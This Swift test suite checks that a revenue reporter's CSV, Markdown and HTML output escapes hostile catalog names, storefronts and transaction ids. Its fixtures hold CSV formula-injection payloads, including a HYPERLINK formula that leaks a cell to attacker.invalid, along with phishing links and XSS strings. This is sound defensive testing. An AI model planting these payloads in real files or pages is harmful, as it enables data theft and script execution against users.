import Foundation
import Ledger
import Postgres
import Receipts
import TestSupport
import Testing

@testable import Reports

/// Security issue 39, findings 7 and 8: catalog names, storefronts and transaction ids that are
/// spreadsheet formulas, Markdown or HTML reach every report as text, and only as text. The names go
/// into the catalog of a real ledger; the reports are written and read back as a spreadsheet, GitHub
/// and a browser would read them.
@Suite("Hostile text in the reports")
struct ReportEscapingTests {
    /// Names a spreadsheet would run as formulas (finding 7), OWASP's leading characters each.
    static let formulaNames: [(ItemID, String)] = [
        (.face(1), #"-1+HYPERLINK("https://attacker.invalid/?leak="&A1,"open")"#),
        (.face(2), "-2+3+cmd|' /C calc'!A0"),
        (.face(3), "+1+cmd|' /C calc'!A0"),
        (.face(4), #"=1+2";=1+2"#),
        (.background(1), "@SUM(1+1)*cmd|' /C calc'!A0"),
        // A name that looks like a negative number is still a name.
        (.background(2), "-5"),
    ]

    /// Names that are Markdown or HTML (finding 8).
    static let markupNames: [(ItemID, String)] = [
        (.background(3), "[click me](https://attacker.invalid/phish)"),
        (.background(4), "![](https://attacker.invalid/pixel.png)"),
        (.background(5), "<img src=x onerror=alert(1)>"),
        (.background(6), "<script>alert(2)</script> a | b"),
        (.background(7), #"`code` **bold** _em_ ~~gone~~ <https://attacker.invalid> www.attacker.invalid \"#),
    ]

    static var names: [(ItemID, String)] { formulaNames + markupNames }

    /// A storefront as a transaction may carry it (only App Store production ones are in the
    /// storefront rows; the ledger takes any visible text).
    static let storefront = "-1+cmd|' /C calc'!A0 <img src=x onerror=alert(3)>"

    /// The id of a purchase refunded on the report's day (the day's refund list shows it).
    static let refundedTransaction = "<img src=x onerror=alert(4)>[t](https://attacker.invalid)"

    /// The CSV columns of text; the others hold numbers the report writes itself.
    static let textColumns: Set = [
        "period_start", "period_end", "time_zone", "book", "level", "currency", "item_kind", "product_id", "item_name",
        "storefront",
    ]

    /// The catalog renamed to `names`; on 2025-03-09 (UTC) one purchase of each in KRW, one from the
    /// hostile storefront, and the refund of a USD purchase of the 8th (so the day's USD net revenue
    /// is -0.99).
    static func recordHostileLedger(_ db: TestDatabase, _ ledger: LedgerStore) async throws {
        try await db.client.withConnection { connection in
            for (item, name) in names {
                try await connection.query(
                    """
                    UPDATE catalog_items SET name = \(name)
                    WHERE kind = \(item.kind.rawValue) AND item_index = \(item.index)::smallint
                    """)
            }
        }
        for uid in ["mallory", "trudy", "victor"] {
            _ = try await ledger.register(uid: uid, profile: testProfile)
        }
        for (item, _) in names {
            let price: Int64 = item == .face(1) || item.kind == .background && item.index <= 3 ? 1_200_000 : 2_500_000
            _ = try await ledger.recordPurchase(
                transaction("p-\(item)", item: item, at: instant("2025-03-09T10:00:00Z"), price: price), for: "mallory")
        }
        _ = try await ledger.recordPurchase(
            transaction(
                "p-storefront", item: .face(2), at: instant("2025-03-09T11:00:00Z"), price: 2_500_000,
                storefront: storefront), for: "trudy")
        _ = try await ledger.recordPurchase(
            transaction(
                refundedTransaction, item: .face(3), at: instant("2025-03-08T09:00:00Z"), price: 990, currency: "USD",
                storefront: "USA"), for: "victor")
        _ = try await ledger.recordRefundEvent(
            refundEvent("e-refund", .refund, for: refundedTransaction, at: instant("2025-03-09T12:00:00Z")))
    }

    @Test("every CSV text cell that starts with = + - @ starts with an apostrophe; negative amounts stay numbers")
    func csvFormulas() async throws {
        try await withReportLedger { db, ledger in
            try await Self.recordHostileLedger(db, ledger)
            let report = try await RevenueReporter(client: db.client).daily(date: day("2025-03-09"))
            try await withTemporaryFolder { folder in
                let written = try writeAndRead(report, to: folder)
                for (item, name) in Self.names {
                    let row = try #require(
                        written.row([
                            "level": "item", "book": "production", "currency": "KRW", "item_kind": item.kind.rawValue,
                            "item_index": "\(item.index)",
                        ]), "\(item)")
                    let expected = "=+-@".contains(name.first!) ? "'" + name : name
                    #expect(row["item_name"] == expected, "\(item)")
                }
                let storefronts = written.rows.filter { $0["level"] == "storefront" }.compactMap { $0["storefront"] }
                let neutralised = storefronts.contains("'" + Self.storefront)
                #expect(neutralised, "\(storefronts)")
                // The refund of the 8th's purchase: negative amounts the report wrote, numbers still.
                let refunded = try #require(
                    written.row(["level": "item", "currency": "USD", "item_kind": "face", "item_index": "3"]))
                #expect(refunded["net_revenue"] == "-0.99" && refunded["estimated_proceeds"] == "-0.69")
                #expect(written.row(["level": "currency", "currency": "USD"])?["net_revenue"] == "-0.99")
                // No field at all that a spreadsheet would read as a formula: a field starting with one
                // of OWASP's characters is a number the report wrote, in a column of numbers.
                for row in written.rows {
                    for (column, value) in row {
                        guard let first = value.unicodeScalars.first, "=+-@\t\r\n".unicodeScalars.contains(first)
                        else { continue }
                        let isNumber =
                            !Self.textColumns.contains(column) && value.wholeMatch(of: /-[0-9]+(\.[0-9]+)?/) != nil
                        #expect(isNumber, "a formula in \(column): \(value)")
                    }
                }
            }
        }
    }

    @Test("names, storefronts and transaction ids are text in the Markdown: GitHub renders no link, image or HTML")
    func markdownMarkup() async throws {
        try await withReportLedger { db, ledger in
            try await Self.recordHostileLedger(db, ledger)
            let report = try await RevenueReporter(client: db.client).daily(date: day("2025-03-09"))
            let markdown = RevenueMarkdown.render(report)
            let rendered = try GitHubMarkdown(rendering: markdown)
            // Only the elements the report makes itself: no a, img, script, del, ….
            #expect(rendered.foreignElements.isEmpty, "\(rendered.foreignElements)")
            #expect(GitHubMarkdown.brokenTableLines(in: markdown).isEmpty)
            // Each text is a cell of its own, shown exactly as it is: no markup inside, nothing cut.
            let cells = Set(rendered.tableRows.joined())
            let expected =
                Self.names.map { item, name in "\(name) (\(item.index))" }
                + [Self.storefront, Self.refundedTransaction, "\(Self.formulaNames[2].1) (face 3)"]
            for text in expected {
                let found = cells.contains(GitHubMarkdown.escaped(text))
                #expect(found, "no cell shows \(text) as text")
            }
        }
    }

    @Test("the HTML report shows the same texts as text: no element, no inline mark from them")
    func htmlText() async throws {
        try await withReportLedger { db, ledger in
            try await Self.recordHostileLedger(db, ledger)
            let report = try await RevenueReporter(client: db.client).daily(date: day("2025-03-09"))
            let html = RevenueHTML.render(report)
            for element in ["<a ", "<img", "<script", "<del"] {
                #expect(!html.contains(element), "\(element)")
            }
            let cells = Set(
                html.matches(of: /<td[^>]*>(.*?)<\/td>/).map { Self.htmlText(String($0.output.1)) }.compactMap { $0 })
            let expected =
                Self.names.map { item, name in "\(name) (\(item.index))" } + [
                    Self.storefront, Self.refundedTransaction,
                ]
            for text in expected {
                let found = cells.contains(text)
                #expect(found, "no cell shows \(text) as text")
            }
        }
    }

    /// The text of an HTML cell that holds no element (nil when it holds one), its character
    /// references decoded.
    static func htmlText(_ cell: String) -> String? {
        guard !cell.contains("<") else { return nil }
        var text = ""
        var rest = Substring(cell)
        while let ampersand = rest.firstIndex(of: "&") {
            text += rest[..<ampersand]
            guard let semicolon = rest[ampersand...].firstIndex(of: ";") else { return nil }
            let name = rest[rest.index(after: ampersand)..<semicolon]
            switch name {
            case "amp": text += "&"
            case "lt": text += "<"
            case "gt": text += ">"
            case "quot": text += "\""
            default:
                guard name.hasPrefix("#"), let code = UInt32(name.dropFirst()), let scalar = Unicode.Scalar(code)
                else { return nil }
                text.unicodeScalars.append(scalar)
            }
            rest = rest[rest.index(after: semicolon)...]
        }
        return text + rest
    }
}
